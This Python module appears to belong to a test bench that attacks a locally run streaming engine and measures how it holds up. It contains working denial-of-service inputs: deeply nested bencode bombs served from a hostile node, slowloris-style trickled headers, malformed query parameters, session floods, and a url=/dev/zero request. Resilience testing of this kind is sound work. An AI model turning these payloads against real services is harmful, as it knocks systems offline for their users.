"""Attacks through HTTP: the engine's API, transport files and tracker answers, the HTTP side of a node, and the
source's HTTP input (see bench/attacks.py for the rules every attack follows)."""

from __future__ import annotations

import asyncio
import secrets
import time
from typing import Any

import aiohttp
from aiohttp import web
from yarl import URL

from bench.attack_tools import Ctx, attacker_host, histogram, http_status, newcomers, remaining, trickle
from bench.hostile_chain import HOST, PlayerLog, free_port, player_phase

# --- bencode-bomb --------------------------------------------------------------------------------------------------

DEEP_LIST = b"l" * 60_000
HANG_79 = b"d7:bitratei5e10:categoriesl5:sporte12:content_type10:video/mp2t4:name4:news-10:"


async def _bomb_server(ctx: Ctx, host: str) -> int:
    """A hostile node: serves the real transport file, answers /announce and two other paths with bombs."""
    async with aiohttp.ClientSession() as session, session.get(ctx.chain.source_transport_url) as response:
        real = await response.read()

    async def announce(_request: web.Request) -> web.Response:
        ctx.counters["bomb_announces_served"] += 1
        return web.Response(body=DEEP_LIST, content_type="text/plain")

    app = web.Application()
    app.router.add_get("/app/get_transport_file", lambda _r: _served(web.Response(body=real)))
    app.router.add_get("/announce", announce)
    app.router.add_get("/deep.acelive", lambda _r: _served(web.Response(body=DEEP_LIST)))
    app.router.add_get("/hang.acelive", lambda _r: _served(web.Response(body=HANG_79)))
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    ctx.stack.push_async_callback(runner.cleanup)
    port = free_port(host)
    await web.TCPSite(runner, host, port).start()
    return port


async def _served(response: web.Response) -> web.Response:
    return response


async def bencode_bomb(ctx: Ctx, seconds: float) -> None:
    """Three bombs in turn; an engine that dies of one is started again (and counted) so the next is tried too."""
    until = time.monotonic() + seconds
    host = attacker_host(0)
    port = await _bomb_server(ctx, host)
    chain = ctx.chain
    ctx.counters["victim_deaths"] += 0
    steps = [
        ("deep_list_transport_file", f"http://{host}:{port}/deep.acelive"),
        ("deep_list_announce", f"http://{host}:{port}/app/get_transport_file"),
        ("hang_79_bytes", f"http://{host}:{port}/hang.acelive"),
    ]
    async with aiohttp.ClientSession() as session:
        for name, target in steps:
            if time.monotonic() >= until:
                break
            if not chain.nodes["engine"].alive():
                ctx.counters["victim_restarts_by_bench"] += 1
                await asyncio.to_thread(chain.restart, "engine")
            url = URL(chain.engine_api + "/ace/getstream").with_query(url=target, format="json")
            started = time.monotonic()
            status = await http_status(session, url, timeout=min(8.0, remaining(until) + 0.1))
            note: dict[str, Any] = {"status": status, "answered_in_s": round(time.monotonic() - started, 1)}
            if name == "deep_list_announce":  # the engine announces to the hostile node's tracker on its own
                for _ in range(30):
                    if ctx.counters["bomb_announces_served"] or not chain.nodes["engine"].alive():
                        break
                    await asyncio.sleep(0.2)
                await asyncio.sleep(min(2.0, remaining(until)))
                note["announces_served"] = ctx.counters["bomb_announces_served"]
            engine = chain.nodes["engine"]
            note["engine_alive_after"] = engine.alive()
            if not engine.alive():
                note["engine_exit"] = engine.popen.returncode
                ctx.counters["victim_deaths"] += 1
            elif status == "timeout":
                note["engine_answers_after"] = await http_status(
                    session, chain.engine_api + "/webui/api/service?method=get_version", 3.0)
            ctx.notes[name] = note
    await asyncio.sleep(remaining(until))


# --- slow-http ---------------------------------------------------------------------------------------------------

SLOW_HTTP = 1100
SLOW_HTTP_RATE = 250.0
SLOW_HTTP_HOSTS = 5


async def slow_http(ctx: Ctx, seconds: float) -> None:
    until = time.monotonic() + seconds
    port = ctx.p2p_port("source")
    first = f"GET /app/get_transport_file?format=raw HTTP/1.1\r\nHost: {HOST}\r\n".encode()
    await asyncio.gather(
        trickle(ctx, port, SLOW_HTTP, SLOW_HTTP_RATE, SLOW_HTTP_HOSTS, first, b"X-Slow: 1\r\n", until, "slow_http"),
        newcomers(ctx, port, until, ctx.chain.source_transport_url),
    )


# --- engine-api --------------------------------------------------------------------------------------------------

JSON_SESSIONS = 260
JSON_WATCH = 4.0  # seconds to watch the honest player after the JSON sessions, before url=/dev/zero
UNKNOWN_IDS = 15


async def engine_api(ctx: Ctx, seconds: float) -> None:
    until = time.monotonic() + seconds
    api = ctx.chain.engine_api
    tracker = f"http://{HOST}:{ctx.p2p_port('support')}/announce"
    engine = ctx.chain.nodes["engine"]
    connector = aiohttp.TCPConnector(limit=20, local_addr=(attacker_host(0), 0))
    async with aiohttp.ClientSession(connector=connector) as session:
        bad = {"magnet=//%5B": URL(api + "/ace/getstream?magnet=//%5B", encoded=True),
               "url=http://%5B": URL(api + "/ace/getstream?url=http://%5B", encoded=True)}  # fmt: skip
        for name, url in bad.items():
            ctx.notes[name] = await http_status(session, url, 5.0)

        def magnet() -> URL:
            link = f"magnet:?xt=urn:btih:{secrets.token_hex(20)}&tr={tracker}"
            return URL(api + "/ace/getstream").with_query(magnet=link, format="json")

        statuses = await asyncio.gather(*(http_status(session, magnet(), 5.0) for _ in range(UNKNOWN_IDS)))
        ctx.notes["unknown_content_ids"] = histogram(list(statuses))
        ctx.notes["unknown_content_id_16th"] = await http_status(session, magnet(), 5.0, body=True)

        json_url = URL(api + "/ace/getstream").with_query(url=ctx.chain.support_transport_url, format="json")
        json_start = time.monotonic()
        statuses = await asyncio.gather(*(http_status(session, json_url, 10.0) for _ in range(JSON_SESSIONS)))
        ctx.notes["json_sessions"] = histogram(list(statuses))
        await asyncio.sleep(min(JSON_WATCH, remaining(until)))  # what the sessions did to the honest player
        json_end = time.monotonic()

        def eviction(log: PlayerLog) -> None:
            seen = player_phase(log, json_start, json_end, 1.0)
            ctx.notes["player_after_json_sessions"] = {
                "stream_ends": seen["stream_ends"], "longest_gap_s": seen["longest_gap_s"]}  # fmt: skip

        ctx.finalizers.append(eviction)

        zero = URL(api + "/ace/getstream").with_query(url="/dev/zero", format="json")
        ctx.notes["url=/dev/zero"] = await http_status(session, zero, min(10.0, remaining(until) + 0.1))
        ctx.notes["engine_alive_after_dev_zero"] = engine.alive()
    await asyncio.sleep(remaining(until))


# --- source-outage -----------------------------------------------------------------------------------------------

OUTAGE_SECONDS = 15.0


async def source_outage(ctx: Ctx, seconds: float) -> None:
    until = time.monotonic() + seconds
    chain = ctx.chain
    off, off_wall = time.monotonic(), time.time()
    await asyncio.to_thread(chain.stop_testsrc)
    await asyncio.sleep(OUTAGE_SECONDS)
    await asyncio.to_thread(chain.start_testsrc)
    back, back_wall = time.monotonic(), time.time()
    ctx.notes["input_off_s"] = round(back - off, 1)

    def resumed(log: PlayerLog) -> None:
        """When the player got the first GOP made after the input came back (testsrc's clock stamps), and how
        long it went from the last GOP made before the outage to that one: a reconnecting player may be served
        old pieces again, which is not the stream resuming."""
        fresh = [mono for mono, _wall, stamp in log.stamps if stamp > back_wall]
        ctx.notes["fresh_gop_after_input_back_s"] = round(fresh[0] - back, 2) if fresh else None
        old = [(stamp, mono) for mono, _wall, stamp in log.stamps if stamp <= off_wall]
        if fresh and old:
            newest = max(stamp for stamp, _ in old)  # the last GOP made before the outage, when first seen
            seen = min(mono for stamp, mono in old if stamp == newest)
            ctx.notes["player_without_new_gop_s"] = round(fresh[0] - seen, 2)

    ctx.finalizers.append(resumed)
    await asyncio.sleep(remaining(until))
